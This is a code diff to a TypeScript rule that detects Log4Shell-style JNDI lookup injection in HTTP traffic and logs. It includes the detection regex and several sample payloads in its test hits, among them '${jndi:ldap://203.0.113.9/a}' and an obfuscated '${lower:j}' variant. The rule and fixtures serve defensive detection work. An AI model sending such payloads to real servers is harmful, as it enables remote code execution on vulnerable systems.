@@ -1,7 +1,10 @@
 import type { BuiltInRule } from '../built-in-rule';
 
 const OPEN = String.raw`(\$|%24|%2524)(\{|%7b|%257b)`;
-const LOOKUP = String.raw`${OPEN}(jndi|${OPEN}(lower|upper|env|sys|date|main|base64|::-)[^ ]{0,80}(j|n|d|i)|::-j)`;
+const LOOKUP = `${OPEN}(jndi|${OPEN}(lower|upper|env|sys|date|main|base64|::-)[^ ]{0,80}(j|n|d|i)|::-j)`;
+
+/** As it would begin a placeholder here. */
+const OPENED = '\u0024{';
 
 export const lookupInjected: BuiltInRule = {
   kind: 'rule',
@@ -23,8 +26,8 @@ export const lookupInjected: BuiltInRule = {
   q: `type:(application or network) (path:/${LOOKUP}/ or user_agent:/${LOOKUP}/ or referer:/${LOOKUP}/ or message:/${LOOKUP}/)`,
   by: ['src_ip', 'namespace', 'pod'],
   hits: [
-    { type: 'network', fields: { path: '/?x=${jndi:ldap://203.0.113.9/a}', status: 404 } },
-    { type: 'network', fields: { path: '/', user_agent: '${${lower:j}ndi:ldap://x/a}' } },
+    { type: 'network', fields: { path: `/?x=${OPENED}jndi:ldap://203.0.113.9/a}`, status: 404 } },
+    { type: 'network', fields: { path: '/', user_agent: `${OPENED}${OPENED}lower:j}ndi:ldap://x/a}` } },
     { type: 'network', fields: { path: '/?x=%24%7Bjndi%3Aldap%3A%2F%2Fx' } },
   ],
   misses: [
